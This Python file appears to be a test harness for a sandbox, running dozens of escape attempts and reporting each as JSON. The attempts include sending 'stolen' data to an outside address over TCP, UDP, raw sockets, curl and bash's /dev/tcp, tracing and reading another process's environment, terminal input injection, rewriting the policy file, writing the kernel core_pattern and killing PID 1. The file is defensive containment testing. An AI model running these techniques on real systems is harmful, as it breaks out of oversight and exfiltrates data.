"""Tries to get out, and writes what became of each attempt as one JSON object. Run inside a fence, all must fail; run
outside, all that the host permits succeed, which shows that the attempts are real ones."""
import array
import ctypes
import fcntl
import json
import os
import signal
import socket
import struct
import subprocess
import sys

OUTSIDE, UNIX, ABSTRACT, VICTIM, POLICY, SHARED, WHERE = sys.argv[1:8]
VICTIM = int(VICTIM)
libc = ctypes.CDLL(None, use_errno=True)
results = {}


def attempt(name):
    def run(function):
        try:
            results[name] = function() or "done"
        except OSError as error:
            results[name] = os.strerror(error.errno) if error.errno else str(error)
        except Exception as error:  # whatever else a library makes of it
            results[name] = repr(error)
        return function
    return run


def call(number, *arguments):
    ctypes.set_errno(0)
    result = libc.syscall(number, *arguments)
    if result == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def tcp(address, port, family=socket.AF_INET, say=b"stolen"):
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(3)
        s.connect((address, port))
        s.sendall(say)


def udp(address, port, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.sendto(b"stolen", (address, port))


@attempt("tcp to an address")
def _():
    tcp(OUTSIDE, 4444)


@attempt("tcp to an address on the port for tls")
def _():
    tcp(OUTSIDE, 443)


@attempt("udp to an address")
def _():
    udp(OUTSIDE, 5353)


@attempt("dns to an address")
def _():
    udp(OUTSIDE, 53)


@attempt("tcp over ipv6")
def _():
    tcp("2001:db8::7", 4444, socket.AF_INET6)


@attempt("raw socket")
def _():
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).sendto(b"\x08\0\0\0stolen", (OUTSIDE, 0))


@attempt("packet socket")
def _():
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)


@attempt("vsock")
def _():
    socket.socket(40, socket.SOCK_STREAM)


@attempt("curl without its proxy")
def _():
    done = subprocess.run(["curl", "-sS", "-m", "2", "--noproxy", "*", f"http://{OUTSIDE}:4444/"], capture_output=True)
    # Elsewhere nobody answers: who waits for an answer was connected.
    if done.returncode not in (0, 28):
        raise OSError(0, done.stderr.decode().strip())


@attempt("bash's /dev/tcp")
def _():
    done = subprocess.run(["bash", "-c", f"echo stolen > /dev/tcp/{OUTSIDE}/4444"], capture_output=True)
    if done.returncode:
        raise OSError(0, done.stderr.decode().strip())


@attempt("unix socket by its name")
def _():
    with socket.socket(socket.AF_UNIX) as s:
        s.connect(UNIX)


@attempt("abstract unix socket")
def _():
    with socket.socket(socket.AF_UNIX) as s:
        s.connect("\0" + ABSTRACT)
        s.sendall(b"stolen")


@attempt("signal to an outside process")
def _():
    os.kill(VICTIM, signal.SIGUSR1)


@attempt("tracing an outside process")
def _():
    call(101, 16, VICTIM, 0, 0)


@attempt("memory of an outside process")
def _():
    open(f"/proc/{VICTIM}/environ", "rb").read()


@attempt("namespaces of an outside process")
def _():
    done = subprocess.run(["nsenter", "-t", str(VICTIM), "-n", "true"], capture_output=True)
    if done.returncode:
        raise OSError(0, done.stderr.decode().strip())


@attempt("a user namespace of one's own")
def _():
    done = subprocess.run(["unshare", "-Ur", "true"], capture_output=True)
    if done.returncode:
        raise OSError(0, done.stderr.decode().strip())


@attempt("clone into a user namespace")
def _():
    if call(56, 0x10000000 | 17, 0, 0, 0, 0) == 0:
        os._exit(0)


@attempt("clone3")
def _():
    call(435, 0, 0)


@attempt("io_uring")
def _():
    call(425, 1, ctypes.create_string_buffer(256))


@attempt("keys of the kernel")
def _():
    call(250, 0, -3, 0)


@attempt("input into the terminal")
def _():
    fcntl.ioctl(0, 0x5412, b"x")


@attempt("input into the terminal, with more bits")
def _():
    call(16, 0, ctypes.c_ulong(0x1_0000_5412), ctypes.create_string_buffer(b"x"))


@attempt("another discipline for a terminal")
def _():
    fcntl.ioctl(os.openpty()[1], 0x5423, struct.pack("i", 0))


@attempt("a terminal for oneself alone")
def _():
    fcntl.ioctl(os.openpty()[1], 0x540C)


@attempt("settings of the gateway")
def _():
    if "OUTGATE_LOG_FORMAT" not in os.environ:
        raise OSError(0, "there are none")


@attempt("where interrupts go")
def _():
    if os.statvfs("/proc/irq").f_flag & os.ST_RDONLY:
        raise OSError(0, "it is read-only")


@attempt("the kernel's other settings")
def _():
    if os.statvfs("/sys").f_flag & os.ST_RDONLY:
        raise OSError(0, "they are read-only")


@attempt("writing the policy")
def _():
    with open(POLICY, "a") as f:
        f.write("\nallow = [\"everything.test\"]\n")
    with open(POLICY) as f:
        if "everything.test" not in f.read():
            raise OSError(0, "nothing was written")


@attempt("another policy by moving its folder")
def _():
    folder = os.path.dirname(POLICY)
    os.rename(folder, folder + ".moved")


@attempt("shared memory")
def _():
    with open("/dev/shm/" + SHARED) as f:
        f.read()


@attempt("a setting of the kernel")
def _():
    open("/proc/sys/kernel/core_pattern", "w").write("|/bin/false")


@attempt("mounts that hide things")
def _():
    done = subprocess.run(["umount", POLICY], capture_output=True)
    if done.returncode:
        raise OSError(0, done.stderr.decode().strip())


@attempt("the first process's files")
def _():
    os.listdir("/proc/1/root")


@attempt("ending the first process")
def _():
    if WHERE != "inside":
        return "done"  # outside it is the machine's
    os.kill(1, signal.SIGKILL)
    os.kill(1, signal.SIGSTOP)
    raise OSError(0, "it goes on")


@attempt("a folder outside by a descriptor")
def _():
    # Whoever started us left one open.
    os.listdir("/proc/self/fd/9/")


print(json.dumps(results))
